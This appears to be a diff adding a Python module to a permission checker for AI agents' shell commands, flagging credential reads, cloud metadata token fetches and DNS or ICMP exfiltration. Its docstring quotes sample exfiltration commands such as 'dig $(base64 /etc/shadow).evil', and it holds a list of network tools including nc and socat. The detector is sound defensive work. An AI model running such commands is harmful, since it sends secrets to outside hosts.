@@ -1,0 +1,255 @@
+"""Judging a command by its effects: the rule packs, and the classes no pack can list.
+
+`judge_effects(cmd, an)` applies every pack rule written for `cmd.name` (see `packs.py`):
+each matching danger rule is a hit named by its id with the span that decided, each
+payload it names is judged as a command line of its own, and a matching `effect = "none"`
+rule says the form only reads. Two classes of behaviour are judged here for every command,
+known or not, because they depend on the arguments and not on the tool:
+
+- reading a credential (`secret_read`): any argument or input redirection naming a file
+  whose content is a credential (`fspaths.is_secret`), for every tool but those a pack
+  marks `metadata = true` (ls, stat, wc...). What the agent reads goes to its model
+  provider, so printing a key is `typed`; listing or sizing it is not.
+- sending run-time data to the network (`upload`): a network tool whose destination or
+  payload is computed by a command substitution (DNS and ICMP exfiltration:
+  `dig $(base64 /etc/shadow).evil`, `ping -p $(xxd -p key)`).
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from typing import TYPE_CHECKING
+
+from aiperm_tui.policy.fspaths import classify, is_metadata_credentials, is_secret
+from aiperm_tui.policy.hits import Hit
+from aiperm_tui.policy.model import Blast
+from aiperm_tui.policy.normalize import Cmd
+from aiperm_tui.policy.packs import PackRule, Packs, builtin_packs, compiled
+from aiperm_tui.policy.parse import Word
+
+if TYPE_CHECKING:
+    from aiperm_tui.policy.analysis import Analysis
+
+_BLAST: dict[str, Blast] = {"destroy": "system", "privilege": "system", "execute": "unknown",
+                            "upload": "unknown", "service": "system", "secret_read": "single"}
+_NETWORK_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "curl",
+                            "wget", "nc", "ncat", "socat", "traceroute", "getent", "whois",
+                            "httpie", "http", "https", "xh", "openssl", "telnet", "ssh", "scp"})
+# An argument that names a file to send or read: `@file`, `name=@file`, `name=<file`.
+_AT_FILE = re.compile(r"^(?:[\w.-]+=)?[@<](.+)$")
+
+
+@dataclass(frozen=True)
+class Judged:
+    """What the packs say about one command: danger hits, and whether a rule says the
+    form only reads (`builtin_reads` may silence the tool's own judge)."""
+
+    hits: list[Hit]
+    reads: bool
+    builtin_reads: bool
+
+
+def judge_effects(cmd: Cmd, an: Analysis) -> Judged:
+    """Every pack rule and effect class that applies to `cmd`."""
+    packs: Packs = getattr(an, "packs", None) or builtin_packs()
+    hits: list[Hit] = []
+    reads = builtin_reads = False
+    for rule in packs.for_command(cmd.name):
+        span = match(rule, cmd)
+        if span is None:
+            continue
+        if rule.effect == "none":
+            reads = True
+            builtin_reads = builtin_reads or rule.builtin
+            hits.append(Hit(rule.id, "info", f"{cmd.name}: {rule.message}", span))
+            continue
+        hits.append(Hit(rule.id, rule.severity, f"{cmd.name}: {rule.message}", span,
+                        _BLAST.get(rule.effect, "single")))
+        if rule.payload:
+            _payload(rule, cmd, an)
+    hits.extend(secret_reads(cmd, packs))
+    hits.extend(_network_substitution(cmd))
+    return Judged(hits, reads, builtin_reads)
+
+
+def match(rule: PackRule, cmd: Cmd) -> tuple[int, int] | None:
+    """The span that made `rule` match `cmd`, or None when it does not match."""
+    span = cmd.span
+    if rule.program is not None and not compiled(rule.program).search(
+            cmd.word.text.rsplit("/", 1)[-1]):
+        return None
+    if rule.words:
+        found = _words_span(rule, cmd)
+        if found is None:
+            return None
+        span = found
+    if rule.options:
+        word = _option_word(cmd, rule.options)
+        if word is None:
+            return None
+        span = word.span
+    if rule.without and cmd.has(*rule.without):
+        return None
+    if rule.args is not None:
+        m = compiled(rule.args).search(cmd.text())
+        if m is None:
+            return None
+        span = _text_span(cmd, m.group(0)) or span
+    if rule.paths:
+        word = next((a for a in cmd.args if path_class(_bare(a.text)) == rule.paths), None)
+        if word is None:
+            return None
+        span = word.span
+    return span
+
+
+def path_class(text: str) -> str:
+    """The class of a path for rules: `secret` first, then what `classify` says."""
+    return "secret" if is_secret(text) else classify(text)
+
+
+def _bare(text: str) -> str:
+    m = _AT_FILE.match(text)
+    return m.group(1) if m else text
+
+
+def _words_span(rule: PackRule, cmd: Cmd) -> tuple[int, int] | None:
+    pos = cmd.positional()
+    texts = [w.text.lower() for w in pos]
+    for phrase in rule.words:
+        if not phrase:  # `words = [""]`: the tool alone, with no subcommand
+            if not texts:
+                return cmd.span
+            continue
+        if len(texts) >= len(phrase) and all(p in ("*", t) for p, t in zip(phrase, texts,
+                                                                            strict=False)):
+            return (pos[0].start, pos[len(phrase) - 1].end)
+    return None
+
+
+def _option_word(cmd: Cmd, names: frozenset[str]) -> Word | None:
+    """The argument that gives one of the options `names` (`-x`, `-xVAL`, `--name[=V]`,
+    or a literal `-name` for tools with single-dash long options)."""
+    short, long = cmd.options()
+    for name in sorted(names):
+        if name.startswith("-"):
+            literal = next((a for a in cmd.args if a.text == name or a.text.startswith(
+                name + "=")), None)
+            if literal is not None:
+                return literal
+            continue
+        if not (name in short if len(name) == 1 else _long_given(name, long)):
+            continue
+        for a in cmd.args:
+            t = a.text
+            if len(name) > 1 and (t == f"--{name}" or t.startswith(f"--{name}=")):
+                return a
+            if len(name) == 1 and t.startswith("-") and not t.startswith("--") and (
+                    name in t[1:]):
+                return a
+        return cmd.args[0] if cmd.args else cmd.word
+    return None
+
+
+def _long_given(name: str, given: set[str]) -> bool:
+    """`--name`, or a GNU abbreviation of it (`--checkpoint-act`); but `--checkpoint` is
+    an option of its own, not an abbreviation of `--checkpoint-action`."""
+    return name in given or any(len(g) >= 3 and name.startswith(g) and name[len(g)] != "-"
+                                for g in given)
+
+
+def _text_span(cmd: Cmd, text: str) -> tuple[int, int] | None:
+    for a in cmd.args:
+        if text and (text in a.text or a.text in text):
+            return a.span
+    return None
+
+
+def _payload(rule: PackRule, cmd: Cmd, an: Analysis) -> None:
+    """Judge the command text the rule says this form runs."""
+    text: str | None = None
+    words = cmd.args
+    if rule.payload == "option":
+        word = _option_word(cmd, rule.options)
+        text = _literal_value(cmd, word) if word is not None and any(
+            n.startswith("-") for n in rule.options) else None
+        text = text or next((v for v in (cmd.option_value(n) for n in sorted(rule.options)
+                                         if not n.startswith("-")) if v is not None), None)
+        if word is not None:
+            words = [w for w in cmd.args if text and text in w.text] or [word]
+    elif rule.payload == "rest":
+        pos = cmd.positional()
+        count = max(len(p) for p in rule.words)
+        if len(pos) > count:
+            start = cmd.args.index(pos[count])
+            words = cmd.args[start:]
+            text = " ".join(w.text for w in words)
+    elif rule.args is not None:
+        text, words = _value_payload(compiled(rule.args), cmd)
+    if not text:
+        return
+    if rule.strip is not None:
+        text = compiled(rule.strip).sub("", text, count=1)
+    if text.strip():
+        an.payload(text, words, rule.id, f"{cmd.name} ({rule.id})")
+
+
+def _literal_value(cmd: Cmd, word: Word) -> str | None:
+    """The value of a literal option word: after its `=`, else the next argument."""
+    if "=" in word.text:
+        return word.text.split("=", 1)[1]
+    at = cmd.args.index(word)
+    return cmd.args[at + 1].text if at + 1 < len(cmd.args) else None
+
+
+def _value_payload(pattern: re.Pattern[str], cmd: Cmd) -> tuple[str | None, list[Word]]:
+    """The `(?P<payload>...)` text of `pattern`: within one argument when it matches
+    there (a value never runs into the next word), else in the joined arguments."""
+    for word in cmd.args:
+        if (m := pattern.search(word.text)) and (text := _payload_group(m)):
+            return text, [word]
+    m = pattern.search(cmd.text())
+    return (_payload_group(m) if m else None), cmd.args
+
+
+def _payload_group(m: re.Match[str]) -> str | None:
+    return next((v for k, v in sorted(m.groupdict().items()) if k.startswith("payload")
+                 and v), None)
+
+
+def secret_reads(cmd: Cmd, packs: Packs) -> list[Hit]:
+    """A credential named as an argument of a tool that reads content."""
+    tool = packs.tool(cmd.name)
+    if tool is not None and tool.metadata:
+        return []
+    for a in cmd.args:
+        text = _bare(a.text.split("=", 1)[1] if a.text.startswith("-") and "=" in a.text
+                     else a.text)
+        if is_secret(text):
+            return [Hit("secret.read", "high", f"{cmd.name} reads {text}, a credential: "
+                        "what the agent reads goes to its model provider", a.span)]
+        if (is_metadata_credentials(a.text) and "credentials" in a.text.lower()) or (
+                is_metadata_credentials(a.text) and "token" in a.text.lower()):
+            return [Hit("secret.read", "high", f"{cmd.name} fetches instance credentials "
+                        "from the cloud metadata service", a.span)]
+    return []
+
+
+def redirect_secret(target: Word) -> Hit | None:
+    """`cmd < /etc/shadow`: the command reads a credential on its input."""
+    if is_secret(target.text):
+        return Hit("secret.read", "high", f"reads {target.text}, a credential, on the "
+                   "input of a command", target.span)
+    return None
+
+
+def _network_substitution(cmd: Cmd) -> list[Hit]:
+    if cmd.name not in _NETWORK_TOOLS:
+        return []
+    for a in cmd.args:
+        if "$(" in a.raw or "`" in a.raw:
+            return [Hit("net.exfil_substitution", "high", f"{cmd.name} sends data computed "
+                        "by a command to the network (a name or packet can carry a secret)",
+                        a.span, "unknown")]
+    return []
